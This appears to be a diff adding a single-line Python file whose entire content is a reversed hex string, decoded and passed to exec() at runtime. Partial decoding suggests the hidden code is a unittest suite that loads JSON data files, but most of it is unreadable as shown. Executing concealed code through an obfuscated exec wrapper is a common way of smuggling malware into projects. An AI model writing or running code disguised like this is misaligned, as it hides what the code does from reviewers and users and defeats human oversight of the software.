@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282e69616d6e2473756474796e65702020202a0a322f5f5e69616d6f5f52202d3d302f5f556d616e6f5f5026696a0a0a092d5d72247272202a322e656b6f647f5863756276656272202c21383236302a322275626d657e622b7b502c29266824616f6c6e2e6f637a682c616571754472756373716e266c65637020202020202020202020202a0a36602371602922283d266475722d376e69646f636e65602c254c49464f535e454b4f445e256c65746f6d6f586475716e266c6563782e65607f602864796770202020202020202a0a0928237e656b6f647f556671637f5e286475716020202020202020202020202a0a39227f62727545607974582375637961625472756373716e266c6563702864796770202020202020202a0a092d79282473656a626f602a322e656b6f647f5863756276656272202c22383236302a322275626d657e622b78246e656070716e237e656b6f647f586375627665627e2864757160202020202020202a092d5d72247272202a322e656b6f647f5863756276656272202c21383236302a322275626d657e622b7b58286475716f5e266c6563702d302864757160202020202020202a0a39266c65637825627f64737f53757f69667562707f537075656b6f55647962777f54656c6961666f5473756470266564602020202a0a092922207d647e2d754c49464f535e454b4f445e256c65746f6d6f586475716e266c65637b7226682374737968756e286471607e237f6825637c61664472756373716e266c656370202020202020202a092d52383236302c213832363b502c2d59266824616f6c6e2e6f637a602e69602972747e6560227f66602d522275626d657e622b5972747e656b582c616571754472756373716e266c65637020202020202020202020202a0a36602371602922283d266475722d376e69646f636e65602c254c49464f535e454b4f445e256c65746f6d6f586475716e266c6563782e65607f602864796770202020202020202a0a0922223d247272202c22383236382e656b6f647f586375627665627f5464616e2864757160202020202020202a092d5d72247272202a322e656b6f647f5863756276656272202c21383236302a322275626d657e622b7b58286475716f5e266c6563702d302864757160202020202020202a0a39266c656378297c6c6163696d6f64716f556c69666f537563616c6075627f556671637f5473756470266564602020202a0a392563716344737564586475714824737564537e656b6f645566716358647571402373716c636a0a0a0920303033302c2928286375627665627f5c69647e657f53746e6f6365637f5e2864757168227564716562774472756373716e266c656370202020202020202a0922246567756e65627d247162202c2d522e656b6f647f537375636361622b5d52237e656b6f64722b527563757f5566796473616e28647571682c616571754472756373716e266c656370202020202020202a092d52247272202c222472722b502c2375686375627665627e266c6563782c616571754472756373716e266c656370202020202020202a0a0921303e20382075656c637e256d6964702020202020202020202020202020202a0a356e696c64616564602c302928256d69647e256d696470246e616022246567756e65627d247162202d31202d522e656b6f647f537375636361622b5d52237e656b6f64722b527563757f5566796473616e2864757160256c6968677020202020202020202020202a05302b202928256d69647e256d6964702d30256e696c646165646020202020202020202020202a0a09292538247961677e24656863756276656278256572745472756373716e266c65637020202020202020202020202a09282275686375627665627f556b61677f5e286475716020202020202020202020202a00303633302d20292928256d69647e256d696478247e69602d30256d69647f586375627665627f5473716c6e286475716020202020202020202020202a0a3925303e20302c2223544e4f4345435f59525455425f5e454b4f4452202c256c65746f6d6f586475716e266c6563782473656a626f6e28636471607e2b636f6d602020202020202020202020202020202a0c502c29203231302c222e494742514d4f584355425645425f5e454b4f4452202c256c65746f6d6f586475716e266c6563782473656a626f6e28636471607e2b636f6d602864796770202020202020202a097c6564716964656d6d6960256574602a3f676160276e6f6c60246568637562766562702473716c602c2e696762716d60256864702e696864796770276e696279607875402320202020202020202a0a097b616c66602d30247c657375627f586375627665627e266c656370202020202020202a047c65737562702e62757475627020202020202020202020202a09282475637e246568637562766562702020202020202020202020202020202a0a347c657375627026696020202020202020202020202a092038207f607e23756d6f6364757f602d30247c657375627020202020202020202020202a0a392e656b6f647f5863756276656278297b616c666026656460202020202020202a0a0d5922246567756e656272202c2030363338237e656b6f647f502c256e6f6e4b502d3023756d6f6364757f60202020202020202a0928247e6566754e276e69646165627864702d3024656863756276656270202020202020202a09256572745d346e657f62776b636162602c2d5d7922246c6f62202c203638237e656b6f647f502a32237e656b6f6472202c22247272202a322e656b6f647f5863756276656272202c21383236302a322275626d657e622b7b58286475716f5e266c6563702d302864757160202020202020202a0a39266c656378237562757c6961666f537569627475627f546e616f5972796078756f55627f6665626f5375686375627665627f507f6f6c6f5473756470266564602020202a0a392563716344737564586475714824737564507f6f6c4863756276656258647571402373716c636a0a0a092d5b502c2375686375627665627e266c6563782c616571754472756373716e266c656370202020202020202a09292939323638227f666f537e656b6f647f586375627665627f5e2864757168256e6f6e43794472756373716e266c656370202020202020202a092d5d72247272202a322e656b6f647f5863756276656272202c21383236302a322275626d657e622b7b58286475716f5e266c6563702d302864757160202020202020202a0a39266c6563782465686375627665627f547f6e6f53796f5275626d657e6f5e677f6e6b6e657f5473756470266564602020202a0a092d52247272202c222472722b502c2375686375627665627e266c6563782c616571754472756373716e266c656370202020202020202a092229727475627d247162202c2d522e656b6f647f537375636361622b592138323638227f666f537e656b6f647f586375627665627f5e28647571682c616571754472756373716e266c656370202020202020202a0922297274756272202c2030363338237e656b6f647f502a3e656b6f647f58637562766562702164626d616c602d30247c657375627f586375627665627e266c656370202020202020202a0a09292138323638227f666f537e656b6f647f586375627665627f5e2864757168256e6f6e43794472756373716e266c65637020202020202020202020202a0a3922247e6962707e237e69647c696572622828636471607e2b636f6d602864796770202020202020202a0e656b6f6272602d30247c657375627f586375627665627e266c656370202020202020202a092224756375627228227f6272754e6f696473656e6e6f634025637961627020202020202020202020202a0a392e656b6f647f58637562766562782e656b6f62726026656460202020202020202a0a092d5d72247272202a322e656b6f647f5863756276656272202c21383236302a322275626d657e622b7b58286475716f5e266c6563702d302864757160202020202020202a0a39266c65637829727475627f53777f6c6c616f546e616f556e6f6e6f537e62757475627f586375627665627f54656c6961666f5473756470266564602020202a0a09237e656b6f64702c2d52237e656b6f64722b5d503b5465627f6473782c616571754472756373716e266c656370202020202020202a092227756e6d247272202c2d522e656b6f647f58637562766562722b5d503b5465627f6473782c616571754472756373716e266c656370202020202020202a09266824616f6c6e2e6f637a602d302465627f64737020202020202020202020202a0a36602371602922283d266475722d376e69646f636e65602c254c49464f535e454b4f445e256c65746f6d6f586475716e266c6563782e65607f602864796770202020202020202a0a092138323638227f666f537e656b6f647f586375627665627f5e28647571602d30237e656b6f6470202020202020202a0a092d5d72247272202a322e656b6f647f5863756276656272202c21383236302a322275626d657e622b7b58286475716f5e266c6563702d302864757160202020202020202a0a39266c656378237e656b6f647f54656471647f627f53747379637275607f586375627665627f5473756470266564602020202a0a092d7b702c2375686375627665627f576e69646e65607f5e28647571682c616571754472756373716e266c656370202020202020202a092923747c65737562702e6960247c6573756270227f66602d503b53747c6573756270237960247c65737562782c6c6168256572745472756373716e266c656370202020202020202a0928302c2923747c65737562782e656c682c616571754472756373716e266c656370202020202020202a092d522472722b502c2375686375627665627e266c6563782c616571754472756373716e266c656370202020202020202a0a0925382e696f6a6e2461656278647020202020202020202020202a0a33746165627864702e696024616562786470227f6660202020202020202a09282475637e256371656c656270202020202020202a0925303e20382075656c637e256d696470202020202020202a092824727164737e2461656278647020202020202020202020202a0a3d5a313b53746165627864702e696024616562786470227f6660202020202020202a092538247961677e24656275647e6560202020202020202a092824727164737e2d503b5374616562786470202020202020202a0d59283825676e6162702e69602f50227f66602929292138323638227f666f537e656b6f647f586375627665627f5e2864757168246e656070716e23747c65737562702a3164626d616c6d347567627164782461656278645e276e696461656278647b502d302374616562786470202020202020202a0d5b502d3023747c6573756270202020202020202a0a086375627665627f577f6c63702d30247c657375627f586375627665627e266c656370202020202020202a092224656271686372202c2030363338237e656b6f647f502e62757475627020202020202020202020202a092538247961677e256371656c65627020202020202020202020202a09282475637e24656275647e656020202020202020202020202a0a392e656b6f647f5863756276656278286375627665627f577f6c637026656460202020202020202a0a0928247e6566754e276e69646165627864702d3024656275647e6560202020202020202a0928247e6566754e276e69646165627864702d30256371656c656270202020202020202a092d5d72247272202a322e656b6f647f5863756276656272202c21383236302a322275626d657e622b7b58286475716f5e266c6563702d302864757160202020202020202a0a39266c656378286375627665627f556e6f6f55627168637f5372756c6c61636f547e65627275736e6f636f5473756470266564602020202a0a3925637163447375645864757148247375645863756276656258647571402373716c636a0a0a092928286375627665627f5c69647e657f53746e6f6365637f5e2928286475716f5e266c656378256e6f6e43794472756373716e266c656370202020202020202a0a39266c656378286375627665627f5f6e6f537e61656d6f527563757f5566796473616f5f6e6f5473756470266564602020202a0a09223d31647c6564602c203831302c2928286375627665627f5c69647e657f53746e6f6365637f5e28647571682c6165717544737f6d6c614472756373716e266c65637020202020202020202020202a0a39203231302c222e494742514d4f584355425645425f5e454b4f4452202c256c65746f6d6f586475716e266c6563782473656a626f6e28636471607e2b636f6d602864796770202020202020202a0a0d7d7225657171607f62202a322e656b6f647f5469622b702a32237e656b6f6472202c21383236302a322275626d657e622b702d30227563757f5566796473616e2864757160202020202020202a092928256d69647e256d696478247e69602d30256d69647f586375627665627f5473716c6e2864757160202020202020202a0928286475716f5e266c6563702d302864757160202020202020202a0a39266c656378256d69647566696c6f54656879666f5563757f5078756f54757f686479677f537e656b6f647f5473756470266564602020202a0a09223d31647c6564602c2033302c2928286375627665627f5c69647e657f53746e6f6365637f5e28647571682c6165717544737f6d6c614472756373716e266c65637020202020202020202020202a0a392033302c2223544e4f4345435f59525455425f5e454b4f4452202c256c65746f6d6f586475716e266c6563782473656a626f6e28636471607e2b636f6d602020202020202020202020202020202a0c502c29203231302c222e494742514d4f584355425645425f5e454b4f4452202c256c65746f6d6f586475716e266c6563782473656a626f6e28636471607e2b636f6d602864796770202020202020202a0a0d79203138237e656b6f647f502a32237e656b6f6472202c21383236302a322275626d657e622b702d30227563757f5566796473616e2864757160202020202020202a092928256d69647e256d696478247e69602d30256d69647f586375627665627f5473716c6e2864757160202020202020202a0928286475716f5e266c6563702d302864757160202020202020202a0a39266c6563782c61667275647e696f59727475627f547365607375627f537e656b6f647f546566796c6f54727f68637f5473756470266564602020202a0a09223d31647c6564602c203838302c2928286375627665627f5c69647e657f53746e6f6365637f5e28647571682c6165717544737f6d6c614472756373716e266c65637020202020202020202020202a0a39203231302c222e494742514d4f584355425645425f5e454b4f4452202c256c65746f6d6f586475716e266c6563782473656a626f6e28636471607e2b636f6d602864796770202020202020202a0a0d792030303138237e656b6f647f502a32237e656b6f6472202c21383236302a322275626d657e622b702d30227563757f5566796473616e2864757160202020202020202a00303633302d20292928256d69647e256d696478247e69602d30256d69647f586375627665627f5473716c6e2864757160202020202020202a0928286475716f5e266c6563702d302864757160202020202020202a0a39266c6563782078756f55627f6665626f5e696762716d6f54656c6574656863637f53796f586375627665627f5473756470266564602020202a0a092863756276602c292d7863756276602a32237e656b6f64722b78237e656b6f647f5465686361636f5e286475716823794472756373716e266c656370202020202020202a0925302b2029747964696c616678237e656b6f647f502d30286375627660202020202020202a09292d7b78237e656b6f647f5465686361636f5e2864757168256e6f6e43794472756373716e266c656370202020202020202a09292d7d7224777a6d216d247f6e62202a322e656b6f647f5469622b702a32237e656b6f64722b78237e656b6f647f5465686361636f5e2864757168256e6f6e43794472756373716e266c656370202020202020202a09292d7925302d2029747964696c616678237e656b6f647f502a32237e656b6f64722b78237e656b6f647f5465686361636f5e2864757168256e6f6e43794472756373716e266c656370202020202020202a0a09545944494c41465f5e454b4f445f5e494d4e256c65746f6d6f586475716e266c6563702d3029747964696c616670202020202020202a0928286475716f5e266c6563702d302864757160202020202020202a0a39266c6563782465637575627f547f6e6f5562716f5972796078756f5271656e6f537e656b6f647f5465686361636f5473756470266564602020202a0a392563716344737564586475714824737564577f646e696759727960787548647571402373716c636a0a0a092928227563757f5566796473616f5475676e2864757168256e6f6e43794472756373716e266c656370202020202020202a092d5b502c29266824616f6c6e2e6f637a682c616571754472756373716e266c65637020202020202020202020202a0a36602371602922283d266475722d376e69646f636e65602c254c49464f535e454b4f445e256c65746f6d6f586475716e266c6563782e65607f602864796770202020202020202a0928286475716f5e266c6563702d302864757160202020202020202a0a39266c65637825627f64737f5974707d656f537564716562736f527f6473657274737e6f636f5473756470266564602020202a0a092d522472722b502c2375686375627665627e266c6563782c616571754472756373716e266c656370202020202020202a0921383236302c2d522275626d657e622b5928227563757f5566796473616f5475676e28647571682c616571754472756373716e266c656370202020202020202a092227756e6d247162202c2d522e656b6f647f537375636361622b537e656b6f64782c616571754472756373716e266c656370202020202020202a092d522472722b502c2375686375627665627e266c6563782c616571754472756373716e266c656370202020202020202a0928237e656b6f647f5566796473616f5475676e28647571602d30237e656b6f6470202020202020202a0a092d5b502c2375686375627665627e266c6563782c616571754472756373716e266c656370202020202020202a09227563757f5566796473616e2864757168256e6f6e43794472756373716e266c656370202020202020202a0a092d5d7920363d28237e656b6f647f502a32237e656b6f6472202c22247272202a322e656b6f647f5863756276656272202c21383236302a322275626d657e622b7b58286475716f5e266c6563702d302864757160202020202020202a0a39266c656378237e656b6f647f546562796078756f566f6f586375627665627f5372756665646f527f6473657274737e6f636f5473756470266564602020202a0a092d5b502c2375686375627665627e266c6563782c616571754472756373716e266c656370202020202020202a092d746568636163602a32237e656b6f6472202c21383236302a322275626d657e622b702c227563757f5566796473616e28647571682c616571754472756373716e266c656370202020202020202a0a092d5d746568636163602a32237e656b6f6472202c22247272202a322e656b6f647f5863756276656272202c21383236302a322275626d657e622b7b58286475716f5e266c6563702d302864757160202020202020202a092224656863616362202c2030363338237e656b6f647f502d3024656863616360202020202020202a0a39266c656378237e656b6f647f5465686361636f537563757f527f6473657274737e6f636f5473756470266564602020202a0a3925637163447375645864757148247375645075747271647358647571402373716c636a0a0a0928292372747471602c292c286475714e256c65746f6d6f586475716e266c656378202c22286475714863756276422825607974702e627574756270202020202020202a056e6f6e402a366c6563702164626d616c602d302d52207f6f6c6f586375627665627f522b53727474716020202020202020202020202a0a346e657f62776b63616260247f6e60266960202020202020202a0d756e6f6e402a32227563757f55667964736162202c2d5b502a32237e656b6f647f5863756276656272202c25637c6166402a322f54656a796c616964796e696f52202c256e6f6e402a322f55636e6164737e696f522b702d30237274747160202020202020202a0926602c2923756962747e65682473796c68207d65746e2e6f637a602020202020202020202020202020202a0a36602371602922283d266475722d376e69646f636e65602c222772202c254c49464f535e454b4f445e256c65746f6d6f586475716e266c6563782e65607f60286479677020202020202020202020202a0a33756962747e6560266960202020202020202a0222222e2e6f64756c676e696370256c65746f6d6025686470247f6e602c29727f64736562796460276e696b627f677023772473756470256864702f6470246e657f626028647571402863756276602142222220202020202020202a0a3925637c61664d346e657f62776b636162602c29282d33756962747e65602c266c656378286475716f50266564602020202a0a092e656b6f647f5863756276656278247c657375627f586375627665627e266c6563702e627574756270202020202020202a092e656b6f647f5863756276656278246e656070716e2375686375627665627e266c656370202020202020202a0a392e656b6f647f58637562766562702c266c6563782e656b6f647f57756e6f5475676f50266564602020202a0a09207f64737e28636471607820757e61656c634464616e266c656370202020202020202a092824727164737e286364716070202020202020202a092e656b6f647f57756e6f5475676f5e266c6563702c222e656b6f647f57756e6f54756762202c256c65746f6d6f586475716e266c6563782473656a626f6e28636471607e2b636f6d602d30286364716070202020202020202a092227756e62202c2030363338237e656b6f647f502a3e656b6f647f58637562766562702164626d616c602d30247c657375627f586375627665627e266c656370202020202020202a0d5b502d302375686375627665627e266c656370202020202020202a0922286475716e256369667275637e2070716228256c65746f6d6f54727f607d696e22696c64727f607d69602d30256c65746f6d6f586475716e266c656370202020202020202a0a39266c656378207554756370266564602020202a0a3925637163447375645e2473756474796e6578256371634473756458647571402373716c636a0a0a0d702020202a0c292d792e696f53756279607875602b202928256d69647e256d696478247e69602a3220787562202c222275637572202a32226573722b7824777a6f502a322e656b6f647f54696220202020202020202a0c222d756d616e6b7d24716226602a322e656b6f647f5373756363616220202020202020202a0c222d756d616e6b7d24727226602a322e656b6f647f586375627665627220202020202020202a0b702e6275747562702020202a0a34736964602e3d202922237e656b6f6472202d30227473702a356d616e602c24716f6c66602a3e696f5375627960787568237e656b6f647f502665646a0a0a0225627574716e6769637e2d79237d69616c636825646f636e656b7e2d792d77256e6f6e67202a37276c61672b7825646f636e656b7226602e6275747562702020202a09222d32282079627473727e292825646f6365646e29292825646f636e656e29247271607823707d65746e2e6f637a6825646f636e656436326f556661637c62757e243635637162602e627574756270202020202020202a0a327473702e3d202924736964602a347271607825646f636e6560266564602020202a0a327473702e3d202924736964602a337d69616c636824777a6f502665646a0a0a0b636f6d6024727f607d69602473756474796e65702d6f62766a0473756474796e657024727f607d696a056d69647024727f607d696a076e696461656278647024727f607d696a037f6024727f607d696a0e6f637a6024727f607d696a02696c64727f607d696024727f607d696a0436356371626024727f607d696" ));